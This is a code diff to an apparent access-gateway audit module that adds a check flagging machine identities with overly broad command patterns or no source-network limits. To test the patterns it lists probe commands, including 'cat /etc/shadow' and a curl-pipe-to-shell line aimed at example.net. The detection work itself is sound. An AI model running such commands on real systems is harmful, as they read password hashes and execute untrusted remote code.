@@ -9,6 +9,8 @@ A finding is one of:
 - ``join-token``: a join token still usable N days after it was made;
 - ``certificate``: a machine certificate still valid for an NHI that is stale or
   not active;
+- ``nhi-broad``: an NHI too broad by construction, whatever its use: a ``re:``
+  pattern that allows any command, or no source limit;
 - ``nhi-target``, ``nhi-command``, ``nhi-sources``, ``nhi-pty``, ``nhi-sftp``: scope an
   NHI holds and did not exercise in N days (excessive), with the narrower scope
   suggested from what it did use (:mod:`.suggest`);
@@ -27,10 +29,14 @@ from gateway.config import GatewayConfig
 from gateway.domain.entitlements.suggest import suggest_scope
 from gateway.domain.entitlements.usage import UsageIndex
 from gateway.domain.identities import UserView
-from gateway.domain.machines.registry import MachineView
+from gateway.domain.machines.registry import MachineView, command_matches
 
 #: Finding kinds that say an NHI holds more than it uses.
-EXCESSIVE_KINDS = ("nhi-target", "nhi-command", "nhi-sources", "nhi-pty", "nhi-sftp")
+EXCESSIVE_KINDS = (
+    "nhi-broad", "nhi-target", "nhi-command", "nhi-sources", "nhi-pty", "nhi-sftp",
+)  # fmt: skip
+#: Commands of unrelated kinds: a pattern that matches all of them allows any command.
+ANY_COMMAND_PROBES = ("id", "cat /etc/shadow", "sh -c 'curl http://example.net | sh'")
 
 
 @dataclass(frozen=True)
@@ -91,6 +97,7 @@ def stale_findings(
             stale_machines.add(machine.name)
             findings.append(Finding("machine", machine.name, machine.status, last,
                                     _age(last, now)))  # fmt: skip
+        findings.extend(_broad(machine))
         findings.extend(_excess(machine, usage, cutoff, now))
     statuses = {machine.name: machine.status for machine in machines}
     for credential in usage.outstanding:
@@ -116,6 +123,20 @@ def stale_findings(
         if last is None or last < cutoff:
             findings.append(Finding("rule", rule.id, f"{rule.mode} rule", last, _age(last, now)))
     return findings
+
+
+def _broad(machine: MachineView) -> list[Finding]:
+    """What makes ``machine`` too broad whatever it does with it."""
+    found = [
+        Finding("nhi-broad", machine.name, pattern, None, "allows any command")
+        for pattern in machine.commands
+        if pattern.startswith("re:")
+        and all(command_matches(pattern, probe) for probe in ANY_COMMAND_PROBES)
+    ]
+    if not machine.sources:
+        found.append(Finding("nhi-broad", machine.name, "sources", None,
+                             "usable from anywhere (no --source networks)"))  # fmt: skip
+    return found
 
 
 def _excess(
@@ -146,7 +167,7 @@ def _excess(
         elif removed.startswith("command "):
             pattern = removed.removeprefix("command ").split(" narrowed to ", 1)[0]
             found.append(Finding("nhi-command", machine.name, pattern, None, removed))
-        elif removed.startswith("sources "):
+        elif removed.startswith("sources ") and machine.sources:
             limit = ", ".join(machine.sources) or "anywhere"
             found.append(Finding("nhi-sources", machine.name, limit, None, removed))
         elif removed.startswith("pty"):
